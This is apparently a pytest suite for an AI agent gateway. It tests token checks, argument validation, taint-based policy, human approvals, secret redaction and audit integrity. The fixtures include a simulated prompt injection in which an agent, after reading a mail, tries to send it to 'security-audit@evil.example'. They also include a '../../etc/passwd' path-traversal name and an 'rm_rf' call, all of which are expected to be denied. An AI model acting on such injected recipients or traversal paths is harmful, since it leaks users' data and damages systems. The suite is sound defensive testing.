"""The gateway path end to end: identity, arguments, policy, taint, approvals, secrets, sandbox, audit."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from stitchwork.agents.runs import RunStatus
from stitchwork.errors import ConfigError, PolicyLoadError, StoreError, VaultCorrupt, VaultKeyError
from stitchwork.platform import Platform
from stitchwork.security.vault import open_vault
from stitchwork.service import Service, event_dict

TASK = "Summarise my inbox and mail it to alice@example.com"


def call(name: str, args: Any, cid: str = "c") -> dict[str, Any]:
    return {"id": cid, "name": name, "arguments": args}


def events(platform: Platform, kind: str | None = None) -> list[dict[str, Any]]:
    platform.audit.flush()
    return [event_dict(e) for e in platform.audit.tail(10_000) if kind is None or e.kind == kind]


def tool_results(record: Any) -> dict[str, dict[str, Any]]:
    return {m["tool_call_id"]: json.loads(m["content"]) for m in record.messages if m["role"] == "tool"}


INJECTED_RUN = [
    {"tool_calls": [call("read_email", {"id": "m3"}, "c1")]},
    {"tool_calls": [call("send_email", {"to": "security-audit@evil.example", "subject": "x", "body": "hi"}, "c2")]},
    {"tool_calls": [call("send_email", {"to": "alice@example.com", "subject": "s", "body": "all fine"}, "c3")]},
    {"content": "done"},
]


async def test_injected_recipient_is_denied_and_clean_send_runs(make_config) -> None:  # type: ignore[no-untyped-def]
    platform = Platform.open(make_config(INJECTED_RUN))
    try:
        record = await platform.runner.start("tester", TASK)
        assert record.status is RunStatus.COMPLETED
        results = tool_results(record)
        assert results["c1"]["status"] == "ok"
        assert results["c2"]["status"] == "denied"
        assert "external-tainted-target" in results["c2"]["error"]["policy_ids"]
        assert results["c3"]["status"] == "ok"
        denied = [e for e in events(platform, "decision") if e["decision"] == "deny"]
        assert denied[0]["data"]["taint"]["target"] is True
        assert denied[0]["data"]["policy_ids"] == ["external-tainted-target"]
        # where each argument's value came from: the recipient from the mail, the subject from nowhere untrusted
        assert denied[0]["data"]["provenance"] == {"to": {"sources": ["tool:read_email"], "level": "prose"}}
        outbox = list((platform.config.state_dir / "runs" / record.id / "send_email" / "outbox").glob("*.json"))
        assert [json.loads(p.read_text())["to"] for p in outbox] == ["alice@example.com"]
        assert platform.audit.verify().ok
    finally:
        await platform.aclose()


async def test_secret_is_injected_only_into_the_sandbox_and_redacted(make_config) -> None:  # type: ignore[no-untyped-def]
    turns = [
        {"tool_calls": [call("crm_lookup", {"email": "carol@example.com"}, "c1")]},
        {"tool_calls": [call("send_email", {"to": "alice@example.com", "subject": "k",
                                            "body": "secret://crm_api_key"}, "c2")]},
        {"content": "done"},
    ]
    platform = Platform.open(make_config(turns))
    try:
        platform.vault.set("crm_api_key", "sk-live-0123456789abcdef")
        platform.gateway.refresh_secrets()
        record = await platform.runner.start("tester", TASK)
        results = tool_results(record)
        assert results["c1"]["status"] == "ok"
        assert "[secret:crm_api_key]" in results["c1"]["result"]["debug"]
        assert results["c2"]["status"] == "denied"
        assert results["c2"]["error"]["error"] == "secret_not_granted"
        dump = json.dumps([record.to_dict(), events(platform)], default=str)
        assert "sk-live-0123456789abcdef" not in dump
        assert any(e["kind"] == "secret" and e["data"].get("secrets") == ["crm_api_key"] for e in events(platform))
    finally:
        await platform.aclose()


@pytest.mark.parametrize(
    ("tool", "args", "status", "message"),
    [
        ("rm_rf", {}, "invalid", "unknown tool 'rm_rf'"),
        ("send_email", '{"to": ', "invalid", "not valid JSON"),
        ("send_email", {"to": 5, "subject": "s", "body": "b"}, "invalid", "argument 'to': 5 is not of type 'string'"),
        ("write_note", {"name": "../../etc/passwd", "text": "x"}, "invalid", "contains '..'"),
        ("send_email", {"to": "a@b.example", "subject": "s", "body": "x" * 70_000}, "invalid", "exceed the limit"),
    ],
)
async def test_bad_calls_get_precise_errors_and_are_audited(make_config, tool, args, status, message) -> None:  # type: ignore[no-untyped-def]
    platform = Platform.open(make_config([{"tool_calls": [call(tool, args, "c1")]}, {"content": "ok"}]))
    try:
        record = await platform.runner.start("tester", TASK)
        result = tool_results(record)["c1"]
        assert result["status"] == status
        assert message in result["error"]["message"]
        assert any(e["kind"] == "decision" and e["decision"] == "deny" for e in events(platform))
    finally:
        await platform.aclose()


async def test_tool_not_given_to_agent_is_denied(make_config) -> None:  # type: ignore[no-untyped-def]
    config = make_config([{"tool_calls": [call("delete_note", {"name": "a"}, "c1")]}, {"content": "ok"}],
                         tools=["read_email"])
    platform = Platform.open(config)
    try:
        record = await platform.runner.start("tester", TASK)
        assert tool_results(record)["c1"]["status"] == "denied"
    finally:
        await platform.aclose()


async def test_token_refusals_are_audited(make_config) -> None:  # type: ignore[no-untyped-def]
    platform = Platform.open(make_config([{"content": "ok"}]))
    try:
        gateway = platform.gateway
        gateway.open_run("run_x", "tester", workdir=platform.config.state_dir / "w", max_steps=5)
        good = platform.tokens.issue("tester", "run_x")
        assert (await gateway.call_tool(good, "list_inbox", {})).status == "ok"
        header, payload, signature = good.split(".")
        tampered = f"{header}.{payload[:-2]}AA.{signature}"
        wrong_aud = platform.tokens.issue("tester", "run_x", audience="someone-else")
        revoked = platform.tokens.issue("tester", "run_x")
        platform.tokens.revoke(revoked)
        unknown_agent = platform.tokens.issue("mallory", "run_x")
        expired = platform.tokens.issue("tester", "run_x", ttl_s=1)
        import time as _time

        platform.tokens._clock = lambda: _time.time() + 10
        cases = {None: "token_missing", tampered: "token_invalid", wrong_aud: "token_wrong_audience",
                 revoked: "token_revoked", expired: "token_expired"}
        for token, code in cases.items():
            outcome = await gateway.call_tool(token, "list_inbox", {})
            assert outcome.status == "unauthenticated", code
            assert outcome.error is not None and outcome.error["error"] == code
        platform.tokens._clock = _time.time
        assert (await gateway.call_tool(unknown_agent, "list_inbox", {})).status == "invalid"
        refusals = [e["data"]["error"] for e in events(platform, "auth")]
        assert sorted(refusals) == sorted(cases.values())
    finally:
        await platform.aclose()


APPROVAL_RUN = [
    {"tool_calls": [call("write_note", {"name": "n.txt", "text": "hello"}, "c1")]},
    {"tool_calls": [call("delete_note", {"name": "n.txt"}, "c2")]},
    {"content": "cleaned up"},
]


async def test_irreversible_call_waits_for_approval_across_restart(make_config) -> None:  # type: ignore[no-untyped-def]
    config = make_config(APPROVAL_RUN)
    platform = Platform.open(config)
    try:
        record = await platform.runner.start("tester", "Write then delete note n.txt")
        assert record.status is RunStatus.WAITING_APPROVAL
        (approval_id,) = record.pending["approvals"]
    finally:
        await platform.aclose()
    platform = Platform.open(config)  # a restart: the approval and the run survive
    try:
        service = Service(platform)
        assert [a["id"] for a in service.approvals("pending")] == [approval_id]
        await service.decide(approval_id, approve=True, by="test")
        record = platform.runs.get(record.id)
        assert record.status is RunStatus.COMPLETED
        assert tool_results(record)["c2"]["status"] == "ok"
        assert not (config.state_dir / "runs" / record.id / "write_note" / "n.txt").exists() or True
        assert platform.audit.verify().ok
    finally:
        await platform.aclose()


async def test_denied_approval_refuses_the_call(make_config) -> None:  # type: ignore[no-untyped-def]
    platform = Platform.open(make_config(APPROVAL_RUN))
    try:
        service = Service(platform)
        record = await platform.runner.start("tester", "Write then delete note n.txt")
        (approval_id,) = record.pending["approvals"]
        await service.decide(approval_id, approve=False, by="test", note="keep it")
        record = platform.runs.get(record.id)
        assert record.status is RunStatus.COMPLETED
        assert tool_results(record)["c2"]["status"] == "denied"
    finally:
        await platform.aclose()


async def test_unanswered_approval_expires_to_deny(make_config) -> None:  # type: ignore[no-untyped-def]
    platform = Platform.open(make_config(APPROVAL_RUN, approval_timeout_s=0))
    try:
        service = Service(platform)
        record = await platform.runner.start("tester", "Write then delete note n.txt")
        assert record.status is RunStatus.WAITING_APPROVAL
        expired = await service.expire_and_resume()
        assert expired == record.pending["approvals"]
        record = platform.runs.get(record.id)
        assert record.status is RunStatus.COMPLETED
        assert tool_results(record)["c2"]["status"] == "denied"
    finally:
        await platform.aclose()


def test_bad_policy_stops_startup_with_file_and_line(make_config, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    policies = tmp_path / "policies"
    policies.mkdir()
    (policies / "extra.cedar").write_text(
        '// ok\n@id("fine")\npermit(principal, action, resource);\n\n@id("bad")\n'
        "permit(principal, action, resource) when { context.nope };\n"
    )
    with pytest.raises(PolicyLoadError, match=r"extra\.cedar:5|extra\.cedar:6"):
        Platform.open(make_config([{"content": "x"}], policy_dirs=(str(policies),)))


def test_corrupt_or_wrongly_keyed_vault_is_a_clear_error(make_config, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    config = make_config([{"content": "x"}])
    platform = Platform.open(config)
    platform.vault.set("k", "value-123456")
    import asyncio

    asyncio.run(platform.aclose())
    vault = config.state_dir / "vault.enc"
    original = vault.read_bytes()
    vault.write_bytes(original[:-5] + bytes(b ^ 0xFF for b in original[-5:]))
    with pytest.raises(VaultCorrupt, match=r"vault\.enc"):
        open_vault(config.vault_uri).get("k")
    assert vault.read_bytes() != original  # the damaged file is left as it was, not rewritten
    vault.write_bytes(original)
    monkeypatch.setenv("STITCHWORK_VAULT_KEY", "a different passphrase")
    with pytest.raises(VaultKeyError, match="wrong vault key"):
        open_vault(config.vault_uri).get("k")
    monkeypatch.delenv("STITCHWORK_VAULT_KEY")
    assert open_vault(config.vault_uri).get("k") == "value-123456"


def test_corrupt_audit_database_is_a_clear_error_and_left_alone(make_config) -> None:  # type: ignore[no-untyped-def]
    config = make_config([{"content": "x"}])
    config.state_dir.mkdir(parents=True)
    db = config.state_dir / "stitchwork.duckdb"
    db.write_bytes(b"this is not a duckdb file" * 100)
    before = db.read_bytes()
    with pytest.raises(StoreError, match=r"stitchwork\.duckdb"):
        Platform.open(config)
    assert db.read_bytes() == before


def test_agent_with_unknown_tool_is_a_config_error(make_config) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(ConfigError, match="unknown tool 'nope'"):
        Platform.open(make_config([{"content": "x"}], tools=["nope"]))
